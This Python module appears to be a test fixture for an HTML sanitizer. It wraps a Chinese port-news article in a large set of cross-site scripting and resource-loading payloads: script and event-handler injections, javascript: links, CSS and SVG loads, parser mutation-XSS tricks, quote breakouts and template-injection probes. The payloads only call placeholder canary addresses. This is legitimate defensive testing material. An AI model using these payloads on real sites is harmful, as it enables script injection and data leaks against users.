"""Pages made to break out of whatever shows them; CANARY stands for an address that nobody may ask for, RAN for a script."""

_LEAD = "本报讯（记者 方正川）临溪港务局27日发布的数据显示，今年一季度，全港完成集装箱吞吐量四十一万标准箱，同比增长百分之十二。"
_MORE = "<p>港务局负责人介绍，增长主要来自新开的三条近洋航线。港口还把夜间作业的泊位从四个增加到七个，船舶平均在港时间缩短了五个小时。</p>"
STORY = f"<h1>临溪港一季度集装箱吞吐量增长</h1><p>2024-03-27 10:08 来源：晨汐网</p><p>{_LEAD}</p>{_MORE}<p>二季度，港区计划再开通两条内支线。</p>"
_RAN = "(window.ran='%s',new Image().src='CANARY/ran-%s')"


def ran(name: str) -> str:
    """Return a script that leaves traces under a name."""
    return _RAN % (name, name)


HOSTILE = {
    "scripts": f"<script>{ran('script')}</script><SCRIPT SRC=CANARY/a.js></SCRIPT><script type=module>{ran('module')}</script>"
    f"<scr<script>ipt>{ran('split')}</scr</script>ipt>{STORY}<script>document.write('<img src=CANARY/written>')",
    "handlers": f'<body onload="{ran("load")}"><img src=x onerror="{ran("error")}"><img src=x OnErRoR=\'{ran("case")}\'>'
    f'<p onmouseover="{ran("over")}" onfocus="{ran("focus")}" tabindex=1 autofocus>移到这里看看这一段话是不是会动起来</p>'
    f'<p style="animation:x 1s" onanimationstart="{ran("animation")}">动画</p><details open ontoggle="{ran("toggle")}"><summary>展开</summary>全文</details>'
    f'<marquee onstart="{ran("marquee")}">滚动</marquee><video src=CANARY/v onerror="{ran("video")}"></video>{STORY}',
    "links": f'<a href="javascript:{ran("link")}" id=go>点这里进入正文阅读</a><a href="jAvA&#9;script:{ran("tab")}">再点这里</a>'
    f"<a href='CANARY/ping' ping=CANARY/ping target=_top>外链</a><area href=CANARY/area>{STORY}<a href='data:text/html,<script>1</script>'>数据</a>",
    "css": "<link rel=stylesheet href=CANARY/l.css><link rel=preload as=image href=CANARY/p><link rel=prefetch href=CANARY/pf><link rel=dns-prefetch href=//canary.example>"
    "<style>@import 'CANARY/i.css';@import url(CANARY/j.css);@font-face{font-family:x;src:url(CANARY/f)}*{font-family:x}"
    "body{background:url(CANARY/b)}h1{background-image:image-set('CANARY/is' 1x)}p{cursor:url(CANARY/c),auto;list-style:url(CANARY/ls)}"
    "p::before{content:url(CANARY/ct)}h1{b\\61 ckground:u\\72l(CANARY/esc)}div{--x:url(CANARY/var);background:var(--x)}"
    "</style><style>p{color:red}</style ><style>p{color:blue;}<!--</style><img src=CANARY/afterstyle>-->"
    f"<div style=\"background:url('CANARY/sa')\">样式</div><div style='background:\\75rl(CANARY/sb);width:expression(1)'>样式</div>"
    f"<div style='border-image:url(CANARY/bi) 1;mask:url(CANARY/m);filter:url(CANARY/fl#x);behavior:url(CANARY/bh)'>样式</div>{STORY}",
    "pictures": "<img src=CANARY/1 srcset='CANARY/2 2x'><picture><source srcset=CANARY/3><img src=CANARY/4></picture><input type=image src=CANARY/5>"
    "<video poster=CANARY/6 autoplay src=CANARY/7></video><audio src=CANARY/8 autoplay></audio><track src=CANARY/9><body background=CANARY/10>"
    f"<table background=CANARY/11><tr><td background=CANARY/12>格</td></tr></table><image src=CANARY/13><img lowsrc=CANARY/14 dynsrc=CANARY/15>{STORY}",
    "frames": f'<iframe src=CANARY/f1></iframe><iframe srcdoc="<script>{ran("srcdoc")}</script><img src=CANARY/f2>"></iframe>'
    f"<object data=CANARY/f3></object><embed src=CANARY/f4><applet code=x archive=CANARY/f5></applet><frameset><frame src=CANARY/f6></frameset>"
    f'<portal src=CANARY/f7></portal><iframe src="javascript:{ran("frame")}"></iframe>{STORY}',
    "head": f"<base href=CANARY/base/ target=_top><meta http-equiv=refresh content='0;url=CANARY/refresh'><META HTTP-EQUIV='Refresh' CONTENT=\"0; URL=javascript:{ran('refresh')}\">"
    f'<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content=a=b><link rel=manifest href=CANARY/m>{STORY}<img src=relative>',
    "forms": f'<form action=CANARY/form method=post id=f><input name=a autofocus onfocus="{ran("input")}"><button formaction="javascript:{ran("formaction")}">提交</button>'
    f'<input type=submit form=f formaction=CANARY/fa></form><isindex action=CANARY/ii><button form=f>登录</button>{STORY}<keygen autofocus onfocus="{ran("keygen")}">',
    "svg": f'<svg onload="{ran("svg")}"><script>{ran("svgscript")}</script><image href=CANARY/s1 xlink:href=CANARY/s2 /><use href=CANARY/s3#x /><a xlink:href="javascript:{ran("svga")}"><text>字</text></a>'
    f'<animate attributeName=href values="javascript:{ran("animate")}" /><foreignObject><img src=x onerror="{ran("foreign")}"><iframe src=CANARY/s4></iframe></foreignObject><style>@import \'CANARY/s5\'</style></svg>'
    f'<math href="javascript:{ran("math")}"><mtext><img src=x onerror="{ran("mtext")}"></mtext></math>{STORY}',
    "mutation": f'{STORY}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={ran("m1")}&gt;"></style></mglyph></table></mtext></math>'
    f'<svg></p><style><a id="</style><img src=x onerror={ran("m2")}>"></style></svg>'
    f"<noscript><p title=\"</noscript><img src=x onerror={ran('m3')}>\"></noscript><noscript><img src=CANARY/noscript><style>@import 'CANARY/ns'</style></noscript>"
    f"<title><img src=x onerror={ran('m4')}></title><textarea><img src=x onerror={ran('m5')}></textarea><xmp><img src=x onerror={ran('m6')}></xmp>"
    f"<template><img src=x onerror={ran('m7')}></template><template shadowrootmode=open><img src=CANARY/shadow></template><select><template><style></select><img src=x onerror={ran('m8')}></style></template></select>"
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ran('m9')}></style></mglyph></form>"
    f"<plaintext2>文</plaintext2><!--><img src=x onerror={ran('m10')}>--><!--!><img src=x onerror={ran('m11')}>--!><![CDATA[><img src=x onerror={ran('m12')}>]]>",
    "attributes": f"<p title='\"><img src=x onerror={ran('a1')}>' id='\"><script>{ran('a2')}</script>' class='x\" onclick=\"{ran('a3')}'>属性里的引号一个都不能漏出来</p>"
    f"<p style='color:red;}}</style><script>{ran('a4')}</script>'>样式</p><font color='red\" onmouseover=\"{ran('a5')}'>字</font>"
    f"<mark data-s=0 data-at=0 tabindex=0 class=kept>假的标记</mark><p is=x-y slot=z nonce=n contenteditable>{STORY}<p>&lt;img src=x onerror={ran('a6')}&gt; 这一句是文字而不是标签</p>"
    f"<style>p{{}}&lt;/style&gt;<script>{ran('a7')}</script></style><p>&lt;/mark&gt;&lt;script&gt;{ran('a8')}&lt;/script&gt;</p>",
}
# What the page is asked to be: hostile to the panels beside it too.
NASTY = (
    f"</script><script>{ran('text')}</script>",
    f'<img src=x onerror="{ran("attribute")}">',
    f'"><svg onload={ran("svg")}>',
    "{{7*7}}${7*7}<%=7*7%>",
    f"javascript:{ran('address')}",
    "\u2028\u2029<!--<script>",
)
